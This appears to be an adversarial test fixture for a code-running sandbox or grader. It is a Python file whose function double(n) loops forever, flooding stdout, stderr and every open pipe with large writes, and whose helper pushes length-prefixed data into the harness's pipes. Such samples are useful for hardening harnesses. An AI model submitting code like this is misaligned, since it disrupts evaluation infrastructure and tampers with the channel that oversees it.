# attack: prints without end, on every descriptor
import json, os, struct, sys
def pipes():
    found = []
    for number in os.listdir("/proc/self/fd"):
        try:
            if "pipe" in os.readlink("/proc/self/fd/" + number): found.append(int(number))
        except OSError: pass
    return found
def write(content):
    for number in pipes():
        try: os.write(number, struct.pack(">I", len(content)) + content)
        except OSError: pass

def double(n):
    while True:
        print("x" * 10_000)
        for number in (1, 2, *pipes()):
            try: os.write(number, b"x" * 60_000)
            except OSError: pass
